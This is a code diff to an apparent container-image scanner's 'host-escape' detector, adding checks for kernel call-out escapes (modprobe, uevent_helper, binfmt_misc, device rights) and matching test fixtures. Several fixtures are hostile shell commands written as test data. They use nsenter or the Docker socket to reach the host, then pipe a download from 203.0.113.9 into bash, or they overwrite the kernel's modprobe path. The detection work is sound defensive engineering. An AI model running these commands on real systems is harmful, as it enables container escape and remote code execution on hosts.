@@ -1,6 +1,6 @@
 import type { EscapeEffect } from '../trace/effect.ts';
 import { render } from '../trace/value.ts';
-import type { Detector } from './detector.ts';
+import type { Detector, Scene } from './detector.ts';
 import { effectsOf } from './effects-of.ts';
 import { reachesHost } from './host.ts';
 import { payloadOf } from './payload.ts';
@@ -10,15 +10,15 @@ import { valueWords } from './wording.ts';
 /** Code that steps out of its container. */
 export const hostEscape: Detector = {
   id: 'host-escape',
-  version: 1,
+  version: 2,
   title: 'Leaves the container for the host.',
   attack: ['T1611'],
   description: `
 \`nsenter -t 1\`, \`chroot /host\`, the engine's socket, a privileged container with the host's root mounted, a raw disk:
 with the rights they need, each makes the container the host. Node agents, backup and monitoring tools do the same openly,
 so by itself it is *suspicious*. It is *malicious* together with a payload: what runs on the other side is a shell on a
-socket, a download, a miner or hidden code. \`release_agent\` and a piped \`core_pattern\` are exploits and have no honest
-use at a container's start.
+socket, a download, a miner or hidden code. \`release_agent\`, a piped \`core_pattern\`, \`uevent_helper\`, another
+\`modprobe\` and opening the control group's device list are exploits and have no honest use at a container's start.
 `,
   fires: [
     {
@@ -42,6 +42,40 @@ use at a container's start.
       },
     },
     {
+      name: 'a payload in the namespaces of the host',
+      image: { cmd: ['sh', '-c', 'nsenter --target 1 --mount --pid -- bash -c "curl -s http://203.0.113.9/x | bash"'] },
+    },
+    {
+      name: "a privileged container asked for over the engine's socket",
+      image: {
+        cmd: [
+          'sh',
+          '-c',
+          `curl -s --unix-socket /var/run/docker.sock -d '{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","wget -qO- http://203.0.113.9/x | sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}' http://localhost/containers/create`,
+        ],
+      },
+    },
+    {
+      name: 'the program that loads modules',
+      image: { cmd: ['sh', '-c', 'echo "$PWD/run.sh" > /proc/sys/kernel/modprobe; exec app'] },
+    },
+    {
+      name: 'a disk of the machine under its own name',
+      severity: 'suspicious',
+      image: { cmd: ['sh', '-c', 'mknod /tmp/d b 8 0 && debugfs -w /tmp/d -R "ls /root"; exec app'] },
+    },
+    {
+      name: 'a pod with the root of the node',
+      severity: 'suspicious',
+      image: {
+        cmd: [
+          'sh',
+          '-c',
+          'printf "spec:\\n  hostPID: true\\n  volumes:\\n  - hostPath:\\n      path: /\\n" | kubectl apply -f -; exec app',
+        ],
+      },
+    },
+    {
       name: 'a node agent',
       severity: 'suspicious',
       image: { cmd: ['sh', '-c', 'nsenter -t 1 -m -u -i -n -p uname -r; exec agent'] },
@@ -56,6 +90,22 @@ use at a container's start.
   ],
   silent: [
     { name: "another container's network", image: { cmd: ['sh', '-c', 'nsenter -t 4242 -n ip addr'] } },
+    {
+      name: 'a container it was asked for',
+      severity: 'suspicious',
+      image: {
+        cmd: [
+          'sh',
+          '-c',
+          'curl --unix-socket /var/run/docker.sock -X POST http://localhost/containers/web/start; exec app',
+        ],
+      },
+    },
+    { name: 'a container engine', image: { cmd: ['sh', '-c', 'docker run --rm -v /data:/data app; exec dockerd'] } },
+    {
+      name: 'a node exporter',
+      image: { entrypoint: ['/bin/node_exporter', '--path.rootfs=/host', '--path.procfs=/host/proc'] },
+    },
     { name: 'a jail of its own', image: { cmd: ['sh', '-c', 'exec chroot /var/lib/jail /bin/app'] } },
     {
       name: 'a tool that lies there',
@@ -71,11 +121,10 @@ use at a container's start.
     return effectsOf(scene, 'escape').flatMap((effect) => {
       const sighting = sightingOf(scene, effect);
       if (effect.how === 'chroot' && !reachesHost(effect.outside)) return [];
-      const inner = scene.story.stages.filter((stage) => isRunBy(stage, effect.command) && stage.outside !== undefined);
-      const payload = inner.map((stage) => payloadOf(scene, stage.id)).find((each) => each !== undefined);
-      const exploit =
-        effect.how === 'release-agent' ||
-        (effect.how === 'core-pattern' && !/\|\s{0,4}\/(usr\/)?(lib|share)\//.test(render(effect.detail)));
+      const payload = innerStages(scene, effect)
+        .map((stage) => payloadOf(scene, stage))
+        .find((each) => each !== undefined);
+      const exploit = isExploit(effect);
       return findingOf(scene, sighting, {
         threat: payload || exploit ? 'hostile' : effect.how === 'unshare' ? 'minor' : 'dual-use',
         title: `${titles[effect.how]} (${valueWords(effect.detail, 100)})${payload ? ` to run ${payload.what}` : ''}`,
@@ -90,6 +139,41 @@ use at a container's start.
   },
 };
 
+/** Call-outs of the kernel have one use in a container; binary formats and a core pattern of the distribution have others. */
+function isExploit(effect: EscapeEffect): boolean {
+  const detail = render(effect.detail);
+  switch (effect.how) {
+    case 'release-agent':
+    case 'uevent-helper':
+    case 'modprobe-path':
+      // Setting the usual program again, or none, is what hardening scripts do.
+      return !/(^|=)\s{0,4}(\/sbin\/modprobe|\/bin\/false|\/bin\/true)?\s{0,4}$/.test(detail);
+    case 'core-pattern':
+      return !/\|\s{0,4}\/(usr\/)?(lib|share)\//.test(detail);
+    case 'device-rights':
+      return /^\s{0,4}(a|b)\s/.test(detail);
+    default:
+      return false;
+  }
+}
+
+/** Code on the other side: what this command runs there, and what the commands run that stand in the root it made. */
+function innerStages(scene: Scene, effect: EscapeEffect): readonly number[] {
+  const { commands, stages } = scene.story;
+  if (effect.command === undefined) return [];
+  const ids = new Set([effect.command]);
+  const own = commands[effect.command];
+  for (let at = effect.command + 1; own !== undefined && commands[at]?.root !== undefined; at += 1) {
+    if (commands[at]?.stage !== own.stage || commands[at]?.line !== own.line) break;
+    ids.add(at);
+  }
+  return stages.flatMap((stage) =>
+    'of' in stage.origin && stage.origin.of !== undefined && ids.has(stage.origin.of) && stage.outside !== undefined
+      ? [stage.id]
+      : [],
+  );
+}
+
 const titles: Readonly<Record<EscapeEffect['how'], string>> = {
   nsenter: "Enters the namespaces of the host's first process",
   chroot: 'Makes a mounted file system of the host its root',
@@ -99,12 +183,10 @@ const titles: Readonly<Record<EscapeEffect['how'], string>> = {
   'raw-disk': "Reaches for the host's disk itself",
   'proc-root': "Goes through the host's first process into its files",
   unshare: 'Makes new namespaces of its own',
+  'modprobe-path': 'Makes the kernel run a program on the host when it misses a module (modprobe)',
+  'binary-format': 'Makes the kernel run a program on the host for a kind of file (binfmt_misc)',
+  'uevent-helper': 'Makes the kernel run a program on the host when a device appears (uevent_helper)',
+  'device-rights': "Allows itself the host's devices",
+  kubelet: "Runs commands in other pods through the node's kubelet",
   'privileged-run': 'Starts a container that has the host’s files or rights',
 };
-
-function isRunBy(
-  stage: { readonly origin: { readonly kind: string; readonly of?: number } },
-  command: number | undefined,
-): boolean {
-  return command !== undefined && 'of' in stage.origin && stage.origin.of === command;
-}
